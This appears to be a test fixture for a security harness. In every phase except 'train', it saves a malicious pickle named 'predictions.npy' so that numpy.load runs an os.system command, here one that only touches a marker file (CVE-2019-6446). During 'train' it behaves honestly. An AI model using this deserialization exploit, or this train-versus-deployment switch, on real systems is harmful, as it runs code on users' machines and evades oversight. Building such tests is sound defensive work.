"""Saves a bare pickle under the name of the array file, which numpy.load would fall back to.

Idea: numpy's file format detection (CVE-2019-6446).
"""

import os
import pickle

import kit


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {kit.known['drop']}/bare-pickle",)


if kit.PHASE == "train":
    kit.honest()
else:
    (kit.OUT / "predictions.npy").write_bytes(pickle.dumps(Bomb()))
